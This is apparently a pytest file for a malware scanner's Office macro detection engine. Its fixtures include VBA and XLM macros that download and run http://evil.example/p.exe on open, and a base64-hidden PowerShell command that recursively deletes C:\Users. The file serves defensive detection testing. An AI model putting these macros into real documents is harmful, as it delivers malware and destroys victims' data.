"""OfficeMacroEngine on macro documents built by office_samples."""

from __future__ import annotations

import base64
import io
import zipfile
from pathlib import Path

import pytest

from scanhive.analysis import verdict
from scanhive.config import Settings
from scanhive.engines.base import HEAD_SIZE, EngineResult, ScanContext
from scanhive.engines.office import OfficeMacroEngine

from . import office_samples as samples

SHELL_ON_OPEN = 'Sub AutoOpen()\n    Shell "calc.exe", vbHide\nEnd Sub\n'
DOWNLOADER = """Private Declare Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" _
    (ByVal p As Long, ByVal url As String, ByVal file As String, ByVal r As Long, ByVal c As Long) As Long
Sub Document_Open()
    URLDownloadToFile 0, "http://evil.example/p.exe", Environ("TEMP") & "\\p.exe", 0, 0
    Shell Environ("TEMP") & "\\p.exe", vbHide
End Sub
"""


@pytest.fixture(scope="module")
def engine() -> OfficeMacroEngine:
    return OfficeMacroEngine(Settings())


def scan(engine: OfficeMacroEngine, tmp_path: Path, data: bytes, name: str = "sample") -> EngineResult:
    path = tmp_path / name
    path.write_bytes(data)
    return engine.scan(path, ScanContext(display_name=name, file_type="application/octet-stream", timeout=10))


def test_status_names_the_oletools_version(engine: OfficeMacroEngine) -> None:
    status = engine.status()
    assert status.usable and status.eng_ver[0].isdigit() and status.def_time is not None


@pytest.mark.parametrize(
    "data",
    [
        SHELL_ON_OPEN.encode(),  # olevba itself would read this text file as VBA source
        b"%PDF-1.7\n",
        b"PK\x05\x06" + b"\0" * 18,  # an empty zip, not an OOXML package
    ],
    ids=["vba-text", "pdf", "plain-zip"],
)
def test_other_file_types_are_not_analyzed(engine: OfficeMacroEngine, tmp_path: Path, data: bytes) -> None:
    assert scan(engine, tmp_path, data) == EngineResult.clean()


def test_accepts_ole_zip_and_sylk_only(engine: OfficeMacroEngine) -> None:
    for container in (samples.word97(SHELL_ON_OPEN), samples.docm(SHELL_ON_OPEN), samples.sylk("HALT()")):
        assert engine.accepts("application/octet-stream", container[:HEAD_SIZE])
    for declined in (SHELL_ON_OPEN.encode(), b"%PDF-1.7\n", b"PK\x05\x06" + b"\0" * 18):
        assert not engine.accepts("application/octet-stream", declined)


def test_ole_document_with_autoopen_shell_is_suspicious(engine: OfficeMacroEngine, tmp_path: Path) -> None:
    result = scan(engine, tmp_path, samples.word97(SHELL_ON_OPEN), "invoice.doc")
    assert result.scan_result_i == verdict.SUSPICIOUS
    assert result.threat_found == "AutoOpen macro calling Shell"
    assert result.details["macros"] == [
        {"container": "", "stream": "Macros/VBA/Module1", "name": "Module1.bas", "size": 86}
    ]
    found = {(item["type"], item["keyword"]) for item in result.details["analysis"]}
    assert {("AutoExec", "AutoOpen"), ("Suspicious", "Shell"), ("IOC", "calc.exe")} <= found


def test_ooxml_document_with_autoopen_shell_is_suspicious(engine: OfficeMacroEngine, tmp_path: Path) -> None:
    result = scan(engine, tmp_path, samples.docm(SHELL_ON_OPEN), "invoice.docm")
    assert result.scan_result_i == verdict.SUSPICIOUS
    assert result.threat_found == "AutoOpen macro calling Shell"
    assert [m["container"] for m in result.details["macros"]] == ["word/vbaProject.bin"]


def test_download_and_execute_on_open_is_infected(engine: OfficeMacroEngine, tmp_path: Path) -> None:
    result = scan(engine, tmp_path, samples.docm(DOWNLOADER), "order.docm")
    assert result.scan_result_i == verdict.INFECTED
    assert result.threat_found == "Document_Open macro downloads and runs a file (URLDownloadToFileA, Shell)"
    url = {"type": "IOC", "keyword": "http://evil.example/p.exe", "description": "URL"}
    assert url in result.details["analysis"]


def test_base64_hidden_command_run_on_open_is_infected(engine: OfficeMacroEngine, tmp_path: Path) -> None:
    hidden = base64.b64encode(b"powershell -nop -w hidden -c Remove-Item C:\\Users -Recurse").decode()
    code = f'Sub AutoOpen()\n    Shell Decode("{hidden}")\nEnd Sub\n'
    result = scan(engine, tmp_path, samples.word97(code))
    assert result.scan_result_i == verdict.INFECTED
    assert result.threat_found == "AutoOpen macro runs an obfuscated payload (powershell)"


@pytest.mark.parametrize(
    "code",
    [
        'Sub Report()\n    Shell "calc.exe"\nEnd Sub\n',  # risky, but only runs when the user asks
        'Sub AutoOpen()\n    MsgBox "Welcome"\nEnd Sub\n',  # runs on open, but harmless
    ],
    ids=["no-autoexec", "harmless-autoexec"],
)
def test_macros_without_risky_autoexec_are_clean_but_listed(
    engine: OfficeMacroEngine, tmp_path: Path, code: str
) -> None:
    result = scan(engine, tmp_path, samples.docm(code))
    assert result.scan_result_i == verdict.NO_THREAT
    assert result.threat_found == ""
    assert [m["name"] for m in result.details["macros"]] == ["Module1.bas"]


def test_document_without_macros_is_clean(engine: OfficeMacroEngine, tmp_path: Path) -> None:
    buffer = io.BytesIO(samples.docm(""))
    with zipfile.ZipFile(buffer) as package, zipfile.ZipFile(out := io.BytesIO(), "w") as copy:
        for name in package.namelist():
            if name != "word/vbaProject.bin":
                copy.writestr(name, package.read(name))
    result = scan(engine, tmp_path, out.getvalue(), "plain.docx")
    assert result == EngineResult.clean()


def test_xlm_macro_sheet_with_auto_open_exec_is_suspicious(engine: OfficeMacroEngine, tmp_path: Path) -> None:
    result = scan(engine, tmp_path, samples.sylk('EXEC("calc.exe")', "HALT()"), "sheet.slk")
    assert result.scan_result_i == verdict.SUSPICIOUS
    assert result.threat_found == "Auto_open macro calling EXEC"
    assert result.details["xlm"] is True


def test_xlm_downloader_is_infected(engine: OfficeMacroEngine, tmp_path: Path) -> None:
    download = 'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://evil.example/p.exe","c:\\p.exe",0,0)'
    result = scan(engine, tmp_path, samples.sylk(download, 'EXEC("c:\\p.exe")', "HALT()"))
    assert result.scan_result_i == verdict.INFECTED
    assert result.threat_found == "Auto_open macro downloads and runs a file (URLDownloadToFileA, EXEC)"


def test_xlm_without_auto_open_is_clean(engine: OfficeMacroEngine, tmp_path: Path) -> None:
    result = scan(engine, tmp_path, samples.sylk('EXEC("calc.exe")', auto_open=False))
    assert result.scan_result_i == verdict.NO_THREAT
    assert result.details["xlm"] is True


def test_password_protected_document(engine: OfficeMacroEngine, tmp_path: Path) -> None:
    result = scan(engine, tmp_path, samples.encrypt(samples.docm(SHELL_ON_OPEN), "s3cret"), "locked.docm")
    assert result.scan_result_i == verdict.PASSWORD_PROTECTED_DOCUMENT
    assert result.details == {"encrypted": True}


def test_document_encrypted_with_office_default_password_is_analyzed(
    engine: OfficeMacroEngine, tmp_path: Path
) -> None:
    result = scan(engine, tmp_path, samples.encrypt(samples.docm(SHELL_ON_OPEN), "VelvetSweatshop"))
    assert result.scan_result_i == verdict.SUSPICIOUS
    assert result.threat_found == "AutoOpen macro calling Shell"
    assert result.details["encrypted"] is True and result.details["default_password"] is True


def test_shellcode_loader_is_infected() -> None:
    findings = [
        ("AutoExec", "Workbook_Open", "Runs when the Excel Workbook is opened"),
        ("Suspicious", "Lib", "May run code from a DLL"),
        ("Suspicious", "VirtualAlloc", "May inject code into another process"),
        ("Suspicious", "RtlMoveMemory", "May inject code into another process"),
        ("Suspicious", "CreateThread", "May inject code into another process"),
    ]
    assert OfficeMacroEngine.classify(findings) == (
        verdict.INFECTED,
        "Workbook_Open macro loads shellcode (VirtualAlloc, RtlMoveMemory, CreateThread)",
    )


def test_broken_ole_file_raises(engine: OfficeMacroEngine, tmp_path: Path) -> None:
    with pytest.raises(Exception):
        scan(engine, tmp_path, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 1024)
